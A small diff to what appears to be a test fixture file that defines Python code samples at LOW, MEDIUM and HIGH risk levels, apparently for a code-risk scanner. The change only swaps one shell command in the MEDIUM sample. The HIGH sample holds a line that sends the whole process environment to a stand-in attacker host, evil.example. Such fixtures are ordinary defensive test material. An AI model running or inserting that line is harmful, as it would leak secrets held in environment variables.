@@ -12,5 +12,5 @@ export const wrote = (code: string, more: Readonly<Record<string, unknown>> = {}
 });
 
 export const LOW = 'print(42)\n';
-export const MEDIUM = 'import os\nos.system("id")\n';
+export const MEDIUM = 'import os\nos.system("ls")\n';
 export const HIGH = 'import os, requests\nrequests.post("https://evil.example", data=os.environ)\n';
